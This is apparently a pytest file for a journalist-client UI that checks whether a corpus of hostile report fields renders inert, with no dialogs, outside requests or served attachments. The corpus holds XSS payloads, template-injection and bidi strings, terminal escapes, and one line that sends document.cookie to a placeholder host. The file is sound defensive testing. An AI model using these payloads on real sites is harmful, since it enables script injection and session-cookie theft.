"""A hostile corpus renders inert in the UI: no dialog, no console error, no request to
anything but the UI, no script runs, with JavaScript on (the worst case) and off.

The reports come through the real import path (a signed desk-export bundle), so every
field reaches the page exactly as a source could have written it.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

# The parent folder's builders: "journalist_client" on the path is the package itself.
from ..conftest import HOSTILE, Run, Server, attachment_meta, report_doc  # noqa: TID252
from .conftest import UI, Watched, start_ui

pytestmark = pytest.mark.slow

# Each would do something visible if it ever ran: a dialog, a request, a console line.
CORPUS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')><script>alert(2)</script></svg>",
    "<a href=\"javascript:alert('js-url')\">click</a>",
    "<iframe src=\"data:text/html,<script>alert('data')</script>\"></iframe>",
    "<object data=\"data:image/svg+xml,<svg onload=alert(1)>\"></object>",
    "<style>body{background:url(http://198.51.100.7/css)}</style>",
    "<link rel=stylesheet href=http://198.51.100.7/x.css>",
    "<div style=\"background-image:url(//198.51.100.7/inline)\">x</div>",
    "\"><script>fetch('http://198.51.100.7/'+document.cookie)</script>",
    "'><body onpageshow=alert('body')>",
    "<meta http-equiv=refresh content=\"0;url=http://198.51.100.7/\">",
    "<base href=\"http://198.51.100.7/\">",
    "<form action=http://198.51.100.7/><button>x</button></form>",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    "\u202eexe.pdf \u200b\u200bzero\u2060width\ufeff \u2066isolate",
    HOSTILE,
    "\x1b]8;;http://198.51.100.7/\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m",
]
# 1 MB (10^6 bytes): the largest field a report document (at most 1 MiB) can hold.
BIG = "A" * (1_000_000 - 30) + "<script>alert('big')</script>"


@pytest.fixture
def hostile(imported: dict[str, str], run: Run, server: Server, vault_dir: Path,
            passfile: Path) -> Iterator[tuple[UI, list[str]]]:
    ids = []
    items = []
    for text in CORPUS:
        # Every free-text field (the others are codes the import validates).
        doc = report_doc(description=text, incident_date=text, device_details=text)
        doc["answers"]["indicators"] = {"links": text, "senders": text, "messages": text}
        doc["attachments"] = [attachment_meta(text.encode("utf-8"), name=text[:200] or "x")]
        doc["attachments"][0]["media_type"] = "text/html"
        items.append(server.item(doc, [text.encode("utf-8")]))
        ids.append(doc["submission_id"])
    big = report_doc(description=BIG)
    items.append(server.item(big))
    ids.append(big["submission_id"])
    code, out, err = run("import", str(server.bundle(items)))
    assert code == 0, err
    assert f"{len(items)} imported" in out
    # The corpus in notes, tags and assignees too: written by the triager's own hand,
    # but pasted from a source's message.
    for text in CORPUS[:4]:
        code, _, err = run("note", ids[0], text)
        assert code == 0, err
    u = start_ui(vault_dir, passfile)
    try:
        yield u, ids
    finally:
        u.stop()


@pytest.mark.parametrize("js", [True, False], ids=["js-on", "js-off"])
def test_the_hostile_corpus_renders_inert(browser: Any, hostile: tuple[UI, list[str]],
                                          js: bool) -> None:
    ui, ids = hostile
    context = browser.new_context(java_script_enabled=js)
    try:
        page = context.new_page()
        w = Watched(page, [], [], [], [])
        page.on("request", lambda r: w.requests.append(r.url))
        page.on("dialog", lambda d: (w.dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: w.console.append(f"{m.type}: {m.text}"))
        page.on("pageerror", lambda e: w.errors.append(str(e)))
        page.goto(ui.url)
        pages = ["/", "/?followups=1", "/search?q=alert", "/search?q=script",
                 "/search?q=zero", "/outbox", "/iocs"]
        pages += [f"/item/{i}" for i in ids] + [f"/item/{ids[-1]}?full=1"]
        for path in pages:
            page.goto(ui.origin + path)
            assert page.title()  # the page rendered
            # The text is on the page as text, never as elements.
            assert page.locator("main script, main img, main svg, main iframe, main object, "
                                "main style, main link, main meta, main base, "
                                "main [onerror], main [onload], main a[href^=javascript]"
                                ).count() == 0, path
        item = page.goto(ui.origin + f"/item/{ids[0]}")
        assert item is not None
        text = page.inner_text("#description ~ dd")
        assert "<script>alert('script')</script>" in text
        # Bidi and zero-width characters are shown, escaped, not obeyed.
        page.goto(ui.origin + f"/item/{ids[15]}")
        shown = page.inner_text("main")
        assert "\\u202eexe.pdf" in shown
        assert "\\u200b" in shown
        assert "\u202e" not in shown
        # The 1 MB field is cut, with a link to the whole of it.
        page.goto(ui.origin + f"/item/{ids[-1]}")
        assert len(page.inner_text("#description ~ dd")) < 10_000
        assert page.locator("a[href='?full=1#description']").count() == 1
        assert w.dialogs == []
        assert w.errors == []
        assert [c for c in w.console if c.startswith("error")] == []
        assert [u for u in w.requests if not u.startswith(ui.origin + "/")] == []
    finally:
        context.close()


def test_attachments_are_listed_never_served(hostile: tuple[UI, list[str]]) -> None:
    ui, ids = hostile
    session = ui.login()
    page = ui.request("GET", f"/item/{ids[0]}", headers={"Cookie": session})
    body = page.body  # type: ignore[attr-defined]
    assert b"sha256" in body.lower() or b"SHA-256" in body
    # No route hands out an attachment's bytes: only the export-to-path form.
    for path in (f"/item/{ids[0]}/attachment/1", f"/item/{ids[0]}/1", "/files/"):
        assert ui.request("GET", path, headers={"Cookie": session}).status == 404


def test_the_cli_json_of_the_corpus_holds_no_raw_escape(
        hostile: tuple[UI, list[str]]) -> None:
    ui, ids = hostile
    ui.stop()
    done = subprocess.run(
        [sys.executable, "-m", "journalist_client.cli", "--vault", str(ui.vault),
         "--passphrase-file", str(ui.passfile), "show", ids[16]],
        capture_output=True, check=False, timeout=60)
    assert done.returncode == 0
    assert b"\x1b" not in done.stdout
    assert b"\x9b" not in done.stdout.replace(b"\\x9b", b"")
    done = subprocess.run(
        [sys.executable, "-m", "journalist_client.cli", "--vault", str(ui.vault),
         "--passphrase-file", str(ui.passfile), "show", ids[16], "--json"],
        capture_output=True, check=False, timeout=60)
    assert done.returncode == 0
    assert b"\x1b" not in done.stdout
    assert json.loads(done.stdout)["answers"]["description"] == HOSTILE
